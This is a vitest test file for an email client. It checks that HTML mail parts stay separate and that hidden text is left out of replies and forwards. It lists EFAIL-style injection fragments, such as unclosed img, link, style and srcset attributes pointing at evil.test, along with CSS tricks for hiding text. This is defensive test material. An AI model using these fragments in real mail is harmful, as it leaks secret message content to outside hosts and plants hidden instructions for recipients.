import { decodeHTML } from 'entities';
import { describe, expect, it } from 'vitest';
import { cleanHtml } from '../../main/engine/compose/html.ts';
import { quoteHtml, quoteText, type QuotedMail } from '../../main/engine/compose/quote.ts';
import { createInlineIngest } from '../../main/engine/ingest/inline-ingest.ts';
import { imageSources } from '../../main/engine/trust/image-sources.ts';
import { htmlParts, joinHtmlParts } from '../../shared/model/html-parts.ts';
import { reportFigure } from '../support/figures.ts';

const ingest = createInlineIngest();
const SECRET = 'the-secret-of-the-second-part';
const part = (type: string, body: string): string => `--m\r\nContent-Type: ${type}\r\n\r\n${body}\r\n`;

/** A mail of these parts, opened. */
async function open(subtype: string, ...parts: readonly string[]) {
  const raw = Buffer.from(`From: a@b.test\r\nContent-Type: multipart/${subtype}; boundary=m\r\n\r\n${parts.join('')}--m--\r\n`);
  const { segments } = await ingest.ingest(raw);
  return ingest.open(segments);
}

/**
 * What the first part leaves open, so that the second one would become part of an address (EFAIL, "direct exfiltration": Poddebniak et al.,
 * USENIX Security 2018, section 4), and other ways of swallowing it.
 */
const OPEN: readonly (readonly [what: string, first: string, last: string])[] = [
  ['an image, double quotes', '<img src="https://evil.test/', '">'],
  ['an image, single quotes', "<img src='https://evil.test/", "'>"],
  ['an image, no quotes', '<img src=https://evil.test/', '>'],
  ['a link', '<a href="https://evil.test/', '">x</a>'],
  ['a background', '<table background="https://evil.test/', '"></table>'],
  ['a form field', '<form action="https://evil.test/"><textarea name=a>', '</textarea></form>'],
  ['a comment', '<!-- ', ' -->'],
  ['a style sheet', '<style>body{background:url(https://evil.test/', ')}</style>'],
  ['a style attribute', '<p style="background:url(https://evil.test/', ')">x</p>'],
  ['a title', '<title>', '</title>'],
  ['plain text without an end', '<plaintext>', ''],
  ['a template', '<template>', '</template>'],
  ['an image set', '<img srcset="https://evil.test/', ' 1x">'],
];

describe('HTML parts of one mail', () => {
  it.each(OPEN)('are read each for itself: %s', async (_what, first, last) => {
    for (const second of [part('text/html', `<p>${SECRET}</p>`), part('text/plain', SECRET)]) {
      const { html } = await open('mixed', part('text/html', first), second, part('text/html', last));
      const parts = htmlParts(html ?? '');
      expect(parts.filter((one) => one.includes(SECRET))).toHaveLength(1);
      expect(parts.find((one) => one.includes(SECRET))).not.toContain('evil.test');
      expect(imageSources(html ?? '').filter(({ url }) => url.includes('secret'))).toEqual([]);
      const quoted = cleanHtml(html ?? '', { image: () => null, dropHidden: true });
      expect(quoted).toContain(SECRET);
      for (const [, address] of quoted.matchAll(/(?:href|src)="([^"]*)"/gu)) expect(address).not.toContain(SECRET);
    }
  });

  it('are told to be so many', () => reportFigure('H6 parts left open', { shapes: OPEN.length * 2, bytesOfTheNextInAddresses: 0 }));

  it('of a sender who knows the border are still his own', async () => {
    const { html } = await open('mixed', part('text/html', 'a\0b'), part('text/html', 'c\0'), part('text/plain', 'd\0'));
    expect(htmlParts(html ?? '').map((one) => one.trim())).toEqual(['ab', 'c', '<p>d</p>']);
    const { html: alone } = await open('mixed', part('text/html', 'a\0b\0'));
    expect(htmlParts(alone ?? '')).toEqual(['ab']);
  });

  it('keep their charset, order and the text between them', async () => {
    const { html, text } = await open(
      'mixed',
      part('text/plain; charset=utf-8', 'ä first'),
      part('text/html; charset=utf-8', '<p>ö second</p>'),
      part('text/plain; charset=utf-8', 'ü third'),
      part('text/html', '<p>ß fourth</p>'),
    );
    expect(htmlParts(html ?? '').map((one) => decodeHTML(one.replaceAll(/<[^>]*>/gu, '')).trim())).toEqual([
      'ä first',
      'ö second',
      'ü third',
      'ß fourth',
    ]);
    expect(text).toContain('ä first');
    expect(text).not.toContain('holdover-');
  });

  it('as alternatives are one', async () => {
    const { html } = await open('alternative', part('text/plain; charset=koi8-r', 'x'), part('text/html; charset=koi8-r', '<p>\xc1</p>'));
    expect(htmlParts(html ?? '')).toHaveLength(1);
  });

  it('are one text and back', () => {
    expect(htmlParts(joinHtmlParts(['a', ' ', 'b\0c']))).toEqual(['a', 'bc']);
    expect(joinHtmlParts([''])).toBe('');
  });
});

const WHITE = 'color:#ffffff';
/** Mails that show one text and hold another ("Kobold letters"): what is hidden must not be in an answer. */
const KOBOLDS: readonly (readonly [how: string, style: string])[] = [
  ['display', 'display:none'],
  ['display, important', 'DISPLAY : none !important'],
  ['visibility', 'visibility:hidden'],
  ['opacity', 'opacity:0'],
  ['size of the letters', 'font-size:0'],
  ['one pixel', 'font-size:1px;line-height:1px'],
  ['colour of the paper', WHITE],
  ['no height', 'height:0;overflow:hidden'],
  ['far away', 'text-indent:-9999px'],
  ['transparent', 'color:transparent'],
  ['height at most', 'max-height:0;overflow:hidden;mso-hide:all'],
  ['clip', 'clip-path:inset(100%)'],
  ['scaled', 'transform:scale(0)'],
];

describe('an answer to a mail with hidden text', () => {
  const mail = (html: string): QuotedMail => ({ from: [], to: [], cc: [], subject: '', date: 0, html, text: 'unused' });
  it.each(KOBOLDS)('repeats what was visible, and nothing else: %s', (_how, style) => {
    const html = `<p>visible before</p><div style="${style}"><p>hidden order: pay</p></div><p>visible after</p>`;
    for (const kind of ['reply', 'forward'] as const) {
      const options = { kind, locale: 'en', timeZone: 'UTC', image: () => null };
      for (const quoted of [quoteText(mail(html), options), quoteHtml(mail(html), options)]) {
        expect(quoted).not.toContain('hidden order');
        expect(quoted).toContain('visible before');
        expect(quoted).toContain('visible after');
      }
    }
  });

  it('hides nothing by a style sheet, which neither the reader nor the answer applies', () => {
    const html = '<style>.k{display:none}blockquote .k{display:block}</style><p class="k" id="k">shown in both</p>';
    const options = { kind: 'reply' as const, locale: 'en', timeZone: 'UTC', image: () => null };
    expect(quoteText(mail(html), options)).toContain('shown in both');
    expect(quoteHtml(mail(html), options)).not.toMatch(/class=|<style|id=/u);
    reportFigure('H6 hidden text in answers', { mails: KOBOLDS.length + 1, repeated: 0 });
  });
});
